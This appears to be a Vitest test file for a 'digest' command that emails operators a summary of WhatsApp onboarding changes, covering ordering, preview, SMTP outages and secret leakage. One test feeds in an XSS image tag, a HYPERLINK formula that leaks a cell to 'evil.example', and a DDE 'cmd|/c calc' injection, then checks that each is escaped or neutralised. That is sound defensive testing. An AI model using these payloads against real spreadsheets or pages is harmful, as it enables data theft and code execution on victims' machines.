import { existsSync, readFileSync, readdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { cli } from '../helpers/cli.js';
import { type Digital99Harness, digital99Harness } from '../helpers/digital99.js';
import { type SmtpPeer, startSmtp } from '../helpers/smtp.js';
import { tempDir } from '../helpers/temp.js';

async function setup(extraEnv: Record<string, string> = {}) {
  const h = await digital99Harness();
  const smtp = await startSmtp();
  const env = { ...h.env, ...smtp.env, MAIL_FROM: 'waba-sync@example.com', DIGEST_TO: 'ops@example.com, lead@example.com', ...extraEnv };
  const digest = async (...args: string[]) => {
    h.clock.advance(60_000);
    return cli(['digest', ...args], env, { clock: h.clock, log: h.logs.log });
  };
  return { h, smtp, env, digest };
}

/** Section headings of the plain-text part, in order, with their counts. */
function textSections(text: string): string[] {
  return text
    .split('\n')
    .filter((line) => /^[A-Z].* \(\d+( new, \d+ cleared)?\)$/.test(line))
    .map((line) => line.trim());
}

function secretsOf(h: Digital99Harness, smtp: SmtpPeer): string[] {
  return [...[...h.world.numbers.values()].map((n) => n.apiKey), h.world.clientSecret, smtp.pass];
}

describe('digest', () => {
  it('sends one digest of what changed, in the order operations needs, and nothing when nothing is new', async () => {
    const { h, smtp, digest } = await setup();
    const plain = h.world.addOnboarding({ business_name: 'Acme inc', display_name: 'Acme' });
    const coexist = h.world.addOnboarding({ coexistence: 1, business_name: 'Bakery Levi', reference: 'crm-88' });
    const doomed = h.world.addOnboarding({ business_name: 'Garage Mizrahi' });
    const live = h.world.finishOnboarding(h.world.addOnboarding({ business_name: 'Pizza Haifa' }).onboarding_link);
    expect((await h.sync()).outcome).toBe('complete');

    const first = await digest('--send');
    expect(first.code).toBe(0);
    expect(first.stdout).toContain('Queued digest #1: 1 events');
    expect(smtp.mails).toHaveLength(1);
    expect(smtp.mails[0]!.parsed.text).toContain('sync.baseline');

    const temporary = coexist.whatsapp;
    h.world.finishOnboarding(plain.onboarding_link);
    h.world.finishOnboarding(coexist.onboarding_link, { realNumber: '972541112233' });
    h.world.deleteOnboarding(doomed.onboarding_link);
    h.world.updateNumber(live.whatsapp, { isOnline: 0 });
    h.world.rotateApiKey(live.whatsapp);
    h.world.addOnboarding({ business_name: 'Dental Ashdod' });
    expect((await h.sync()).outcome).toBe('complete');

    const second = await digest('--send');
    expect(second.code).toBe(0);
    expect(second.stdout).toMatch(/Queued digest #2: 9 events/);
    expect(second.stdout).toContain('Sent 1 email');
    expect(smtp.mails).toHaveLength(2);
    const mail = smtp.mails[1]!;
    expect(mail.envelopeTo).toEqual(['ops@example.com', 'lead@example.com']);
    expect(mail.parsed.subject).toMatch(/^waba-sync digest: 9 changes \(2026-11-01\)$/);
    const text = mail.parsed.text!;
    expect(textSections(text)).toEqual([
      'Finished onboardings and coexistence swaps (3)',
      'New numbers, channels and clients (2)',
      'Vanished (1)',
      'Other changes (3)',
    ]);
    expect(text).toMatch(/Period: 2026-11-01 08:0\d → 2026-11-01 08:0\d \(UTC\)/);
    expect(text).toContain('Newly shared WABAs: 0');
    // The swap: temporary → real number, business, reference.
    expect(text).toContain(`onboarding.number_swapped | Brand`);
    expect(text).toContain(`Bakery Levi | whatsapp: ${temporary} → 972541112233; reference crm-88`);
    expect(text).toMatch(/onboarding\.removed \| .* \| Garage Mizrahi/);
    expect(text).toContain('number.changed');
    expect(text).toContain('isOnline: 1 → 0');
    expect(text).toContain('apiKey changed');
    expect(text).toMatch(/digital99: last complete pull 2026-11-01 08:0\d, 0 failed pulls since/);
    const html = mail.parsed.html as string;
    expect(html.indexOf('Finished onboardings and coexistence swaps (3)')).toBeLessThan(html.indexOf('Vanished (1)'));
    expect(html).toContain('Source health');
    expect(mail.parsed.attachments).toHaveLength(0);

    // Nothing new: nothing queued, nothing sent, exit 0 (and again after a restart of the app).
    const third = await digest('--send');
    expect(third.code).toBe(0);
    expect(third.stdout).toContain('Nothing new since the last digest');
    await h.restart();
    expect((await digest('--send')).stdout).toContain('Nothing new');
    expect(smtp.mails).toHaveLength(2);

    // A pull without changes adds no event, so still nothing.
    await h.sync();
    expect((await digest('--send')).stdout).toContain('Nothing new');
    expect(smtp.mails).toHaveLength(2);
  });

  it('escapes a hostile business name in HTML, neutralises it in the CSV of a capped digest, and never carries a secret', async () => {
    const { h, smtp, digest } = await setup({ DIGEST_SECTION_LIMIT: '2' });
    await h.sync();
    await digest('--send');
    const hostile = '<img src=x onerror=alert(1)>';
    const formula = '=HYPERLINK("http://evil.example/?leak="&A1,"click me")';
    for (let i = 0; i < 4; i++) {
      h.world.finishOnboarding(h.world.addOnboarding({ business_name: i === 0 ? hostile : `Shop ${i}`, display_name: i === 0 ? formula : `Shop ${i}` }).onboarding_link);
    }
    h.world.addOnboarding({ business_name: '@SUM(1+1)*cmd|"/c calc"!A0', display_name: '+1-2' });
    await h.sync();

    const run = await digest('--send');
    expect(run.stdout).toContain('Full list attached as waba-sync-digest-2.csv');
    const mail = smtp.mails[1]!;
    const html = mail.parsed.html as string;
    expect(html).not.toContain('<img');
    expect(html).toContain('&lt;img src=x onerror=alert(1)&gt;');
    expect(html).toContain('=HYPERLINK(&quot;http://evil.example/?leak=&quot;&amp;A1,&quot;click me&quot;)');
    // Capped at 2 rows a section, with a pointer to the CSV.
    expect(mail.parsed.text).toContain('… and 2 more: the attached waba-sync-digest-2.csv lists all 9 changes');

    const csv = mail.parsed.attachments.find((a) => a.filename === 'waba-sync-digest-2.csv')!.content.toString('utf8');
    const lines = csv.split('\r\n').filter(Boolean);
    expect(lines[0]).toBe('event_id,at,section,source,type,key,name,number_or_id,business,detail');
    expect(lines).toHaveLength(10);
    expect(csv).toContain(`"'=HYPERLINK(""http://evil.example/?leak=""&A1,""click me"")"`);
    expect(csv).toContain(`"'@SUM(1+1)*cmd|""/c calc""!A0"`);
    expect(csv).toContain(`,"'+1-2",`);
    expect(csv).toContain(`,<img src=x onerror=alert(1)>,`);
    // No cell of the CSV starts a formula.
    for (const line of lines) expect(line).not.toMatch(/(^|,)[=+\-@\t\r]/);

    const raw = smtp.mails.map((m) => m.raw).join('\n');
    for (const secret of secretsOf(h, smtp)) expect(raw).not.toContain(secret);
    expect(h.logs.text()).not.toContain(smtp.pass);
  });

  it('--preview writes the email and its parts without sending or marking anything', async () => {
    const { h, smtp, digest } = await setup();
    await h.sync();
    h.world.finishOnboarding(h.world.addOnboarding({ business_name: 'Preview Ltd' }).onboarding_link);
    await h.sync();
    const dir = join(tempDir(), 'preview');
    // A folder it can't make: said first, naming the option, nothing else printed.
    const file = join(tempDir(), 'a-file');
    writeFileSync(file, '');
    const refused = await digest('--preview', join(file, 'x'));
    expect(refused.code).toBe(2);
    expect(refused.stderr).toContain(`--preview: cannot write to ${JSON.stringify(join(file, 'x'))} (ENOTDIR)`);
    expect(refused.stdout).toBe('');

    const preview = await digest('--preview', dir);
    expect(preview.code).toBe(0);
    expect(preview.stdout).toContain('Preview written (nothing sent or marked)');
    expect(readdirSync(dir).sort()).toEqual(['digest-1.eml', 'digest-1.html', 'digest-1.txt']);
    expect(readFileSync(join(dir, 'digest-1.eml'), 'utf8')).toMatch(/^Message-ID: <[0-9a-f]{24}\.[0-9a-f]{12}@waba-sync>$/m);
    expect(readFileSync(join(dir, 'digest-1.txt'), 'utf8')).toContain('Preview Ltd');
    expect(readFileSync(join(dir, 'digest-1.html'), 'utf8')).toContain('Preview Ltd');
    expect(smtp.mails).toHaveLength(0);

    // Without options it only says what is due; then --send still has everything.
    const dry = await digest();
    expect(dry.stdout).toContain('Digest due: 3 events');
    expect(dry.stdout).toContain('Not sent');
    expect((await cli(['outbox'], h.env)).stdout).toContain('0 pending, 0 failed');
    const send = await digest('--send');
    expect(send.stdout).toContain('Queued digest #1: 3 events');
    expect(smtp.mails).toHaveLength(1);
    expect(existsSync(join(dir, 'digest-2.eml'))).toBe(false);
  });

  it('queues the digest while SMTP is down and delivers it once when SMTP is back', async () => {
    const { h, smtp, digest } = await setup();
    await h.sync();
    await smtp.down('refuse');
    const queued = await digest('--send');
    expect(queued.code).toBe(0);
    expect(queued.stdout).toContain('Queued digest #1');
    expect(queued.stdout).toMatch(/not sent yet: 1 .*ECONN/);

    h.world.addOnboarding();
    await h.sync();
    await smtp.up();
    h.clock.advance(10 * 60_000);
    // The next run queues the new event in a second digest and sends both, each once.
    const next = await digest('--send');
    expect(next.stdout).toContain('Queued digest #2: 1 events');
    expect(next.stdout).toContain('Sent 2 emails');
    expect(smtp.mails.map((m) => m.parsed.subject)).toHaveLength(2);
    expect(new Set(smtp.mails.map((m) => m.parsed.messageId)).size).toBe(2);
    expect(smtp.mails.map((m) => m.parsed.text).join('\n').match(/sync\.baseline/g)).toHaveLength(1);
    await digest('--send');
    expect(smtp.mails).toHaveLength(2);
  });

  it('refuses --send without mail settings, naming them', async () => {
    const h = await digital99Harness();
    const run = await cli(['digest', '--send'], h.env, { clock: h.clock });
    expect(run.code).toBe(2);
    expect(run.stderr).toContain('set SMTP_URL, MAIL_FROM and DIGEST_TO');
  });
});
